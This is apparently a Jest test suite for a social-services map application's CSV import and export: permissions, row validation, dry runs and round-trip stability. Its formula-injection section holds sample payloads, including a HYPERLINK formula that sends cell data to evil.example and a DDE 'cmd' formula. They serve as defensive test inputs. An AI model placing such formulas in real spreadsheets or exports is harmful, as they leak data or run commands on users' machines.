import { parse } from 'csv-parse/sync';
import { TEST_PASSWORD, type TestApp, createTestUsers, dataOf, startTestApp } from '../../test/app';
import { neutraliseFormulaCell, restoreFormulaCell } from './csv.cells';

/** `count` rows of population figures for Schuilenburg, unique by (year, source). */
function keyFigureFile(count: number, options: { source?: string; separator?: string; value?: (i: number) => string } = {}): string {
  const sep = options.separator ?? ',';
  const lines = [['area_code', 'indicator_code', 'year', 'value', 'source', 'note'].join(sep)];
  for (let i = 0; i < count; i += 1) {
    const value = options.value ? options.value(i) : String(i);
    lines.push(['schuilenburg', 'population', String(1800 + (i % 400)), value, `${options.source ?? 'Bulk'} ${Math.floor(i / 400)}`, i % 10 === 0 ? 'steekproef' : ''].join(sep));
  }
  return `${lines.join('\r\n')}\r\n`;
}

describe('CSV import and export', () => {
  let t: TestApp;
  let admin: string;
  let municipality: string;
  let swa: string;
  let readKey: string;
  let writeKey: string;

  const count = async (sql: string, params: unknown[] = []) => Number((await t.db.dataSource.query(sql, params))[0].n);
  const get = async (path: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${t.url}${path}`, { headers });
    return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
  };
  const post = async (path: string, body: string, headers: Record<string, string> = {}) => {
    const res = await fetch(`${t.url}${path}`, { method: 'POST', headers: { 'content-type': 'text/csv', ...headers }, body });
    return { status: res.status, body: (await res.json()) as any };
  };
  const as = (cookie: string) => ({ cookie });

  beforeAll(async () => {
    t = await startTestApp();
    await createTestUsers(t.db);
    admin = await t.login('admin@test.local', TEST_PASSWORD);
    municipality = await t.login('gemeente@test.local', TEST_PASSWORD);
    swa = await t.login('swa@test.local', TEST_PASSWORD);
    const swaId = (await t.db.dataSource.query(`SELECT id FROM organisation WHERE slug = 'swa'`))[0].id;
    const key = async (scopes: string[]) =>
      dataOf(await t.gql(`mutation($input: CreateApiKeyInput!) { createApiKey(input: $input) { key } }`, { input: { organisationId: swaId, name: 'csv', scopes } }, { cookie: swa })).createApiKey.key;
    readKey = await key(['READ_MAP']);
    writeKey = await key(['WRITE_OWN_ORGANISATION']);
  });
  afterAll(() => t.close());

  describe('access', () => {
    it('lets anyone who may read the map export, and API keys only with READ_MAP', async () => {
      const anonymous = await get('/csv/key-figures');
      expect(anonymous.status).toBe(200);
      expect(anonymous.type).toMatch(/^text\/csv/);
      expect(anonymous.text.split('\r\n')[0]).toBe('area_code,indicator_code,year,value,source,note');
      expect((await get('/csv/organisations', { authorization: `Bearer ${readKey}` })).status).toBe(200);
      const noScope = await get('/csv/services', { authorization: `Bearer ${writeKey}` });
      expect(noScope.status).toBe(403);
      expect(JSON.parse(noScope.text)).toMatchObject({ error: { code: 'FORBIDDEN' } });
    });

    it('refuses imports from the public (401), the wrong roles (403) and other media types (415)', async () => {
      const file = keyFigureFile(1);
      expect(await post('/csv/key-figures', file)).toMatchObject({ status: 401, body: { error: { code: 'UNAUTHENTICATED' } } });
      expect(await post('/csv/key-figures', file, as(swa))).toMatchObject({ status: 403, body: { error: { code: 'FORBIDDEN' } } });
      expect(await post('/csv/key-figures', file, { authorization: `Bearer ${writeKey}` })).toMatchObject({ status: 403 });
      expect(await post('/csv/organisations', 'slug,name,sector\r\n', as(municipality))).toMatchObject({ status: 403 });
      expect(await post('/csv/services', 'slug,name\r\n', as(swa))).toMatchObject({ status: 403 });
      // A cross-site form can send text/plain or a form encoding without a preflight, never text/csv.
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json']) {
        expect(await post('/csv/key-figures', file, { ...as(admin), 'content-type': type })).toMatchObject({ status: 415, body: { error: { code: 'UNSUPPORTED_MEDIA_TYPE' } } });
      }
      expect(await post('/csv/key-figures', file, { ...as(admin), 'content-type': 'text/csv; charset=windows-1252' })).toMatchObject({ status: 415 });
      expect(await count(`SELECT count(*) AS n FROM key_figure WHERE source LIKE 'Bulk%'`)).toBe(0);
    });
  });

  describe('key figures', () => {
    it('imports 10,000 rows in one transaction, with a history entry each', async () => {
      const before = await count(`SELECT count(*) AS n FROM key_figure`);
      const started = Date.now();
      const res = await post('/csv/key-figures', keyFigureFile(10_000), as(admin));
      expect(res).toMatchObject({ status: 200, body: { dryRun: false, created: 10_000, updated: 0, unchanged: 0, errors: [] } });
      expect(Date.now() - started).toBeLessThan(30_000);
      expect(await count(`SELECT count(*) AS n FROM key_figure`)).toBe(before + 10_000);
      expect(await count(`SELECT count(*) AS n FROM change_record WHERE entity_type = 'KEY_FIGURE' AND via = 'csv-import' AND action = 'CREATE'`)).toBe(10_000);
      const [figure] = await t.db.dataSource.query(`SELECT value, note FROM key_figure WHERE source = 'Bulk 0' AND year = 1800`);
      expect(figure).toEqual({ value: '0.000', note: 'steekproef' });
      // Again: nothing to do.
      const again = await post('/csv/key-figures', keyFigureFile(10_000), as(admin));
      expect(again.body).toMatchObject({ created: 0, updated: 0, unchanged: 10_000 });
    });

    it('imports nothing when row 7,501 of 10,000 is bad, and names that row and column', async () => {
      const lines = keyFigureFile(10_000, { source: 'Afgekeurd' }).split('\r\n');
      // Line index 7500 is row 7,501 (the header is row 1).
      lines[7500] = lines[7500].replace(/^schuilenburg,population,(\d+),\d+,/, 'schuilenburg,population,$1,-5,');
      const before = await count(`SELECT count(*) AS n FROM key_figure`);
      const history = await count(`SELECT count(*) AS n FROM change_record`);
      const res = await post('/csv/key-figures', lines.join('\r\n'), as(admin));
      expect(res.status).toBe(422);
      expect(res.body).toMatchObject({ dryRun: false, created: 0, updated: 0, unchanged: 0 });
      expect(res.body.errors).toEqual([{ row: 7501, column: 'value', message: expect.stringContaining('0 or more') }]);
      expect(await count(`SELECT count(*) AS n FROM key_figure`)).toBe(before);
      expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
    });

    it('lists every bad row in one answer', async () => {
      const file = [
        'area_code;indicator_code;year;value;source;note',
        'schuilenburg;population;2010;12,5;Fouten;',
        'atlantis;population;2010;1;Fouten;',
        'schuilenburg;geluk;2010;1;Fouten;',
        'schuilenburg;pct_age_65_plus;2010;101;Fouten;',
        'schuilenburg;population;twintig;1;Fouten;',
        'schuilenburg;population;2011;veel;Fouten;',
        'schuilenburg;population;1700;1;Fouten;',
        'schuilenburg;population;2012;1.000;Fouten;',
        'schuilenburg;population;2013;1;;',
        'schuilenburg;population;2010;13;Fouten;',
        'schuilenburg;population;2014;1;Fouten',
      ].join('\n');
      const res = await post('/csv/key-figures', file, as(admin));
      expect(res.status).toBe(422);
      expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([
        [3, 'area_code'],
        [4, 'indicator_code'],
        [5, 'value'],
        [6, 'year'],
        [7, 'value'],
        [8, 'year'],
        [9, 'value'],
        [10, 'source'],
        [11, 'source'],
        [12, null],
      ]);
      expect(res.body.errors[8].message).toMatch(/row 2/);
      expect(await count(`SELECT count(*) AS n FROM key_figure WHERE source = 'Fouten'`)).toBe(0);
    });

    it('reads Dutch Excel: semicolons, decimal commas, a BOM, quoted cells with line breaks', async () => {
      const file = '\uFEFFarea_code;indicator_code;year;value;source;note\r\nschuilenburg;pct_age_65_plus;2015;12,5;Excel;"twee\nregels; met puntkomma"\r\nrandenbroek;pct_age_65_plus;2015;1.234,5;Excel;\r\n';
      const res = await post('/csv/key-figures', file, as(admin));
      expect(res.body.errors).toEqual([{ row: 3, column: 'value', message: expect.stringContaining('percentage') }]);
      const fixed = await post('/csv/key-figures', file.replace('1.234,5', '7,25'), as(admin));
      expect(fixed).toMatchObject({ status: 200, body: { created: 2 } });
      const rows = await t.db.dataSource.query(`SELECT value, note FROM key_figure WHERE source = 'Excel' ORDER BY value`);
      expect(rows).toEqual([{ value: '7.250', note: null }, { value: '12.500', note: 'twee\nregels; met puntkomma' }]);
      // A comma file needs decimal points.
      const comma = await post('/csv/key-figures', 'area_code,indicator_code,year,value,source\nschuilenburg,population,2015,"12,5",Komma\n', as(admin));
      expect(comma.body.errors).toEqual([{ row: 2, column: 'value', message: expect.stringContaining('decimal point') }]);
    });

    it('refuses a broken header, and text that is not UTF-8', async () => {
      const missing = await post('/csv/key-figures', 'area_code,indicator_code,value,source\n', as(admin));
      expect(missing).toMatchObject({ status: 422, body: { errors: [{ row: 1, column: 'year' }] } });
      const unknown = await post('/csv/key-figures', 'area_code,indicator_code,year,value,source,kleur\n', as(admin));
      expect(unknown.body.errors).toEqual([{ row: 1, column: 'kleur', message: expect.stringContaining('Unknown column') }]);
      expect((await post('/csv/key-figures', '', as(admin))).body.errors).toEqual([{ row: 1, column: null, message: expect.stringContaining('header') }]);
      const latin1 = Buffer.concat([Buffer.from('area_code,indicator_code,year,value,source\nschuilenburg,population,2016,1,Caf'), Buffer.from([0xe9]), Buffer.from('\n')]);
      const res = await fetch(`${t.url}/csv/key-figures`, { method: 'POST', headers: { 'content-type': 'text/csv', cookie: admin }, body: latin1 });
      expect(res.status).toBe(422);
      expect(((await res.json()) as any).errors).toEqual([{ row: 2, column: null, message: expect.stringContaining('UTF-8') }]);
    });

    it('dry run: checks everything, reports what would happen and writes nothing', async () => {
      const file = keyFigureFile(500, { source: 'Proef', value: (i) => String(i) });
      const before = await count(`SELECT count(*) AS n FROM key_figure`);
      const history = await count(`SELECT count(*) AS n FROM change_record`);
      const dry = await post('/csv/key-figures?dryRun=true', file, as(admin));
      expect(dry).toMatchObject({ status: 200, body: { dryRun: true, created: 500, updated: 0, unchanged: 0, errors: [] } });
      expect(dry.body.changes).toHaveLength(500);
      expect(dry.body.changes[0]).toEqual({ row: 2, action: 'create' });
      expect(await count(`SELECT count(*) AS n FROM key_figure`)).toBe(before);
      expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
      // After the real import, a dry run of changed values reports updates, still writing nothing.
      expect((await post('/csv/key-figures', file, as(admin))).body.created).toBe(500);
      const changed = keyFigureFile(500, { source: 'Proef', value: (i) => String(i < 3 ? i + 100 : i) });
      const dry2 = await post('/csv/key-figures?dryRun=true', changed, as(admin));
      expect(dry2.body).toMatchObject({ dryRun: true, created: 0, updated: 3, unchanged: 497 });
      expect(dry2.body.changes).toEqual([{ row: 2, action: 'update' }, { row: 3, action: 'update' }, { row: 4, action: 'update' }]);
      expect(await count(`SELECT count(*) AS n FROM key_figure WHERE source = 'Proef 0' AND year = 1800 AND value = 0`)).toBe(1);
      const real = await post('/csv/key-figures', changed, as(admin));
      expect(real.body).toMatchObject({ created: 0, updated: 3, unchanged: 497 });
      const [updated] = await t.db.dataSource.query(`SELECT id, version FROM key_figure WHERE source = 'Proef 0' AND year = 1800`);
      expect(updated.version).toBe(2);
      const [entry] = await t.db.dataSource.query(`SELECT via, action, changes FROM change_record WHERE entity_id = $1 AND action = 'UPDATE'`, [updated.id]);
      expect(entry).toEqual({ via: 'csv-import', action: 'UPDATE', changes: { value: { before: 0, after: 100 } } });
    });

    // Two exports and two imports of the whole 10,000-row set: on a busy two-core machine past the default minute.
    it('export → import is stable, in both separators, and the filters work', async () => {
      for (const separator of ['comma', 'semicolon']) {
        const exported = await get(`/csv/key-figures?separator=${separator}`);
        expect(exported.status).toBe(200);
        const rows = exported.text.trim().split('\r\n').length - 1;
        expect(rows).toBeGreaterThan(10_000);
        const history = await count(`SELECT count(*) AS n FROM change_record`);
        const res = await post('/csv/key-figures', exported.text, as(admin));
        expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, unchanged: rows, errors: [] } });
        expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
      }
      const filtered = await get('/csv/key-figures?area=kruiskamp&indicator=pct_non_western_migrants&year=2009');
      expect(filtered.text.trim().split('\r\n')).toEqual(['area_code,indicator_code,year,value,source,note', expect.stringMatching(/^kruiskamp,pct_non_western_migrants,2009,38,/)]);
      const unknown = await get('/csv/key-figures?area=atlantis');
      expect(unknown.status).toBe(400);
      expect(JSON.parse(unknown.text)).toMatchObject({ error: { code: 'BAD_USER_INPUT', field: 'area' } });
      // Bad query parameters: one 400 naming each.
      const bad = await get('/csv/key-figures?year=09&separator=tab');
      expect([bad.status, JSON.parse(bad.text)]).toEqual([
        400,
        { error: { code: 'BAD_USER_INPUT', field: 'year', message: '"year" must be a year such as 2009; "separator" must be comma or semicolon' } },
      ]);
      expect(JSON.parse((await get('/csv/organisations?includeArchived=1')).text)).toEqual({
        error: { code: 'BAD_USER_INPUT', field: 'includeArchived', message: '"includeArchived" must be true or false' },
      });
    }, 180_000);

    it('lets a municipality import figures of its areas only, checked per row', async () => {
      const own = 'area_code,indicator_code,year,value,source\nrandenbroek-schuilenburg,population,2020,20000,Gemeente\nschuilenburg,population,2020,9000,Gemeente\n';
      expect(await post('/csv/key-figures', own, as(municipality))).toMatchObject({ status: 200, body: { created: 2 } });
      const [entry] = await t.db.dataSource.query(
        `SELECT c.via, u.email FROM change_record c JOIN app_user u ON u.id = c.actor_user_id JOIN key_figure kf ON kf.id = c.entity_id WHERE kf.source = 'Gemeente' LIMIT 1`,
      );
      expect(entry).toEqual({ via: 'csv-import', email: 'gemeente@test.local' });
      const mixed = `${own}kruiskamp,population,2020,5000,Gemeente\namersfoort,population,2020,150000,Gemeente\n`;
      const res = await post('/csv/key-figures', mixed, as(municipality));
      expect(res.status).toBe(403);
      expect(res.body.error.code).toBe('FORBIDDEN');
      expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([[4, 'area_code'], [5, 'area_code']]);
      expect(await count(`SELECT count(*) AS n FROM key_figure WHERE source = 'Gemeente'`)).toBe(2);
    });
  });

  describe('organisations', () => {
    it('export → import is stable (every row unchanged)', async () => {
      const exported = await get('/csv/organisations');
      const rows = exported.text.trim().split('\r\n');
      expect(rows[0]).toBe('slug,name,sector,description,website,email,phone,abbreviation,aliases,secondary_sector,subsector,funding_streams,scope,works_without_indication,generic,parent_slug,status,areas');
      const history = await count(`SELECT count(*) AS n FROM change_record`);
      const res = await post('/csv/organisations', exported.text, as(admin));
      expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
      expect(res.body.unchanged).toBeGreaterThanOrEqual(91);
      expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
    });

    it('creates and updates by slug, with history via csv-import; a new parent may come from an earlier row', async () => {
      const file = [
        'slug,name,sector,email,parent_slug,areas,aliases',
        'buurtkoepel,Buurtkoepel Schuilenburg,VOLUNTEER,Info@Buurtkoepel.example,,schuilenburg|randenbroek,BKS|Koepel',
        'buurtkoepel-jeugd,Buurtkoepel Jeugd,volunteer,,buurtkoepel,,',
        'swa,Stichting Welzijn Amersfoort,WELFARE,,,amersfoort,',
      ].join('\n');
      const dry = await post('/csv/organisations?dryRun=true', file, as(admin));
      expect(dry.body).toMatchObject({ dryRun: true, created: 2, updated: 1, changes: [{ row: 2, action: 'create' }, { row: 3, action: 'create' }, { row: 4, action: 'update' }] });
      expect(await count(`SELECT count(*) AS n FROM organisation WHERE slug LIKE 'buurtkoepel%'`)).toBe(0);
      const res = await post('/csv/organisations', file, as(admin));
      expect(res).toMatchObject({ status: 200, body: { dryRun: false, created: 2, updated: 1, unchanged: 0 } });
      const data = dataOf(await t.gql(`{ organisation(slug: "buurtkoepel-jeugd") { parent { slug email aliases areas { slug } } } }`));
      expect(data.organisation.parent).toMatchObject({ slug: 'buurtkoepel', email: 'info@buurtkoepel.example', aliases: ['BKS', 'Koepel'] });
      expect(data.organisation.parent.areas.map((a: any) => a.slug).sort()).toEqual(['randenbroek', 'schuilenburg']);
      const swa = dataOf(await t.gql(`query { organisation(slug: "swa") { id areas { slug } } }`)).organisation;
      expect(swa.areas).toEqual([{ slug: 'amersfoort' }]);
      const history = dataOf(await t.gql(`query($id: ID!) { changeHistory(entityType: ORGANISATION, entityId: $id) { edges { node { action via actorName changes } } } }`, { id: swa.id }, { cookie: admin }));
      const last = history.changeHistory.edges.at(-1).node;
      expect(last).toMatchObject({ action: 'UPDATE', via: 'csv-import', actorName: 'admin@test.local' });
      // A column left out keeps its value; an empty cell clears it (SWA's aliases).
      expect(Object.keys(last.changes).sort()).toEqual(['aliases', 'areaIds']);
      expect(last.changes.aliases.after).toEqual([]);
      expect(Object.keys(last.changes)).not.toContain('description');
    });

    it('lists the problems of each row and imports nothing', async () => {
      const file = [
        'slug,name,sector,email,website,parent_slug',
        'nieuw-een,Nieuw Een,WELFARE,geen-mail,,',
        'nieuw-twee,Nieuw Twee,ZORG,,,',
        'Nieuw Drie,Nieuw Drie,WELFARE,,,',
        'nieuw-vier,,WELFARE,,,',
        'nieuw-vijf,Nieuw Vijf,WELFARE,,ftp://x.example,',
        'nieuw-zes,Nieuw Zes,WELFARE,,,bestaat-niet',
        // A cycle: buurtkoepel-jeugd lies below buurtkoepel (previous test).
        'buurtkoepel,Buurtkoepel,VOLUNTEER,,,buurtkoepel-jeugd',
        'nieuw-acht,Nieuw Acht,WELFARE,,,',
        'nieuw-acht,Nieuw Acht,WELFARE,,,',
      ].join('\n');
      const before = await count(`SELECT count(*) AS n FROM organisation`);
      const res = await post('/csv/organisations', file, as(admin));
      expect(res.status).toBe(422);
      expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([
        [2, 'email'],
        [3, 'sector'],
        [4, 'slug'],
        [5, 'name'],
        [6, 'website'],
        [7, 'parent_slug'],
        [8, 'parent_slug'],
        [10, 'slug'],
      ]);
      expect(await count(`SELECT count(*) AS n FROM organisation`)).toBe(before);
    });
  });

  describe('services', () => {
    it('export → import is stable (every row unchanged)', async () => {
      const exported = await get('/csv/services');
      expect(exported.text.split('\r\n')[0]).toBe(
        'slug,name,organisation_slug,description,status,min_age,max_age,target_groups,areas,abbreviation,aliases,eligibility,requires_indication,works_without_indication,cost,languages,valid_from,valid_to,period_description,funding,frequency,intervention_types,partners',
      );
      const res = await post('/csv/services', exported.text, as(admin));
      expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
      expect(res.body.unchanged).toBe(exported.text.trim().split('\r\n').length - 1);
      // Semicolons too.
      const semicolon = await get('/csv/services?separator=semicolon');
      expect((await post('/csv/services', semicolon.text, as(admin))).body).toMatchObject({ created: 0, updated: 0 });
    });

    it('creates a service with its organisation, target groups, areas and partners, and updates it', async () => {
      const file = [
        'slug;name;organisation_slug;status;min_age;max_age;target_groups;areas;partners;valid_from',
        'wijkontbijt;Wijkontbijt;swa;ACTIVE;55;;alleenstaande-ouderen|kwetsbare-ouderen-sociaal-isolement;schuilenburg;riagg-amersfoort;2024-01-01',
      ].join('\r\n');
      expect(await post('/csv/services', file, as(admin))).toMatchObject({ status: 200, body: { created: 1 } });
      const service = dataOf(await t.gql(`{ service(slug: "wijkontbijt") { id version minAge organisation { slug } targetGroups { code } areas: areasServed { slug } partners { slug } validFrom } }`)).service;
      expect(service).toMatchObject({ version: 1, minAge: 55, organisation: { slug: 'swa' }, areas: [{ slug: 'schuilenburg' }], partners: [{ slug: 'riagg-amersfoort' }], validFrom: '2024-01-01' });
      expect(service.targetGroups.map((g: any) => g.code).sort()).toEqual(['alleenstaande-ouderen', 'kwetsbare-ouderen-sociaal-isolement']);
      const update = await post('/csv/services', file.replace(';schuilenburg;', ';schuilenburg|randenbroek;'), as(admin));
      expect(update.body).toMatchObject({ created: 0, updated: 1 });
      const [entry] = await t.db.dataSource.query(`SELECT via, changes FROM change_record WHERE entity_id = $1 AND action = 'UPDATE'`, [service.id]);
      expect(entry.via).toBe('csv-import');
      expect(Object.keys(entry.changes)).toEqual(['areaIds']);
    });

    it('lists the problems of each row and imports nothing', async () => {
      const file = [
        'slug,name,organisation_slug,min_age,max_age,target_groups,valid_from,valid_to,status',
        'dienst-een,Dienst Een,swa,60,40,,,,',
        'dienst-twee,Dienst Twee,bestaat-niet,,,,,,',
        'dienst-drie,Dienst Drie,swa,,,marsmannetjes,,,',
        'dienst-vier,Dienst Vier,swa,,,,2024-02-30,,',
        'dienst-vijf,Dienst Vijf,swa,,,,2024-05-01,2024-01-01,',
        'dienst-zes,Dienst Zes,swa,oud,,,,,',
        'dienst-zeven,Dienst Zeven,swa,,,,,,GESLOTEN',
      ].join('\n');
      const before = await count(`SELECT count(*) AS n FROM service`);
      const res = await post('/csv/services', file, as(admin));
      expect(res.status).toBe(422);
      expect(res.body.errors.map((e: any) => [e.row, e.column])).toEqual([
        [2, 'max_age'],
        [3, 'organisation_slug'],
        [4, 'target_groups'],
        [5, 'valid_from'],
        [6, 'valid_to'],
        [7, 'min_age'],
        [8, 'status'],
      ]);
      expect(await count(`SELECT count(*) AS n FROM service`)).toBe(before);
    });
  });

  describe('formula injection (OWASP CSV injection)', () => {
    /** The cells of an export by column, for the row whose `key` column is `value`. */
    const rowOf = (csv: string, key: string, value: string, delimiter = ',') => {
      const [header, ...rows] = parse(csv, { delimiter, bom: true }) as string[][];
      const row = rows.find((cells) => cells[header.indexOf(key)] === value);
      if (!row) throw new Error(`no row with ${key} = ${value}`);
      return Object.fromEntries(header.map((column, c) => [column, row[c]]));
    };

    it('quotes exactly the text that starts with = + - @ tab or CR (also after quotes), and reading takes that one quote off', () => {
      const values = ['=1+1', '+31 33', '-', '@SUM(A1)', '\tx', '\r=x', "'=x", "''@x", "'", "'x", "x'=", '', 'Buurtkoepel', '3', ' =x'];
      expect(values.map(neutraliseFormulaCell)).toEqual(["'=1+1", "'+31 33", "'-", "'@SUM(A1)", "'\tx", "'\r=x", "''=x", "'''@x", "'", "'x", "x'=", '', 'Buurtkoepel', '3', ' =x']);
      for (const value of values) expect(restoreFormulaCell(neutraliseFormulaCell(value))).toBe(value);
    });

    it('key figures: source and note are neutralised, a negative value stays a number, and export → import keeps the values', async () => {
      const indicator = { code: 'saldo_verhuizingen', nameNl: 'Saldo verhuizingen', nameEn: 'Net migration', unit: 'NUMBER' };
      const { code } = dataOf(await t.gql(`mutation($input: CreateIndicatorInput!) { createIndicator(input: $input) { code } }`, { input: indicator }, { cookie: admin })).createIndicator;
      const source = '=HYPERLINK("https://evil.example/?d="&A1,"Bron")';
      const file = `area_code,indicator_code,year,value,source,note\r\nschuilenburg,${code},2021,-3.5,"${source.replace(/"/g, '""')}",@SUM(1+1)\r\n`;
      expect(await post('/csv/key-figures', file, as(admin))).toMatchObject({ status: 200, body: { created: 1 } });
      const stored = async () => (await t.db.dataSource.query(`SELECT value, source, note FROM key_figure WHERE source LIKE '=HYPERLINK%'`)) as unknown[];
      expect(await stored()).toEqual([{ value: '-3.500', source, note: '@SUM(1+1)' }]);
      for (const [separator, delimiter, value] of [['comma', ',', '-3.5'], ['semicolon', ';', '-3,5']]) {
        const exported = await get(`/csv/key-figures?area=schuilenburg&indicator=${code}&year=2021&separator=${separator}`);
        expect(rowOf(exported.text, 'year', '2021', delimiter)).toEqual({ area_code: 'schuilenburg', indicator_code: code, year: '2021', value, source: `'${source}`, note: "'@SUM(1+1)" });
        expect(await post('/csv/key-figures', exported.text, as(admin))).toMatchObject({ status: 200, body: { created: 0, updated: 0, unchanged: 1, errors: [] } });
      }
      expect(await stored()).toEqual([{ value: '-3.500', source, note: '@SUM(1+1)' }]);
    });

    it('organisations: every text column is neutralised, lists included, and export → import leaves every row unchanged', async () => {
      const values = {
        name: '=HYPERLINK("https://evil.example","Welzijn")',
        phone: '+31 33 123 4567',
        description: "=cmd|' /C calc'!A0",
        abbreviation: '-SWA-',
        subsector: "'=al geciteerd",
        aliases: ['@swa', 'Welzijn'],
      };
      await t.db.dataSource.query(
        `UPDATE organisation SET name = $1, phone = $2, description = $3, abbreviation = $4, subsector = $5, aliases = $6 WHERE slug = 'swa'`,
        [values.name, values.phone, values.description, values.abbreviation, values.subsector, values.aliases],
      );
      const exported = await get('/csv/organisations');
      expect(rowOf(exported.text, 'slug', 'swa')).toMatchObject({
        name: `'${values.name}`,
        phone: `'${values.phone}`,
        description: `'${values.description}`,
        abbreviation: "'-SWA-",
        subsector: "''=al geciteerd",
        aliases: "'@swa|Welzijn",
        sector: 'WELFARE',
      });
      const history = await count(`SELECT count(*) AS n FROM change_record`);
      const res = await post('/csv/organisations', exported.text, as(admin));
      expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
      expect(res.body.unchanged).toBe(exported.text.trim().split('\r\n').length - 1);
      expect(await count(`SELECT count(*) AS n FROM change_record`)).toBe(history);
      const [after] = await t.db.dataSource.query(`SELECT name, phone, description, abbreviation, subsector, aliases FROM organisation WHERE slug = 'swa'`);
      expect(after).toEqual(values);
    });

    it('services: text columns are neutralised, the age columns are numbers and left alone, and export → import keeps the values', async () => {
      const [{ slug }] = await t.db.dataSource.query(`SELECT slug FROM service WHERE archived_at IS NULL ORDER BY slug LIMIT 1`);
      const values = { name: '+Gratis meedoen', cost: '=2+5', eligibility: '@iedereen', frequency: '-1 keer per week', languages: ['-nl', 'en'], min_age: 12 };
      await t.db.dataSource.query(`UPDATE service SET name = $1, cost = $2, eligibility = $3, frequency = $4, languages = $5, min_age = $6, max_age = NULL WHERE slug = $7`, [
        values.name, values.cost, values.eligibility, values.frequency, values.languages, values.min_age, slug,
      ]);
      for (const [separator, delimiter] of [['comma', ','], ['semicolon', ';']]) {
        const exported = await get(`/csv/services?separator=${separator}`);
        expect(rowOf(exported.text, 'slug', slug, delimiter)).toMatchObject({
          name: "'+Gratis meedoen", cost: "'=2+5", eligibility: "'@iedereen", frequency: "'-1 keer per week", languages: "'-nl|en", min_age: '12', max_age: '',
        });
        const res = await post('/csv/services', exported.text, as(admin));
        expect(res).toMatchObject({ status: 200, body: { created: 0, updated: 0, errors: [] } });
      }
      const [after] = await t.db.dataSource.query(`SELECT name, cost, eligibility, frequency, languages, min_age FROM service WHERE slug = $1`, [slug]);
      expect(after).toEqual(values);
    });
  });
});
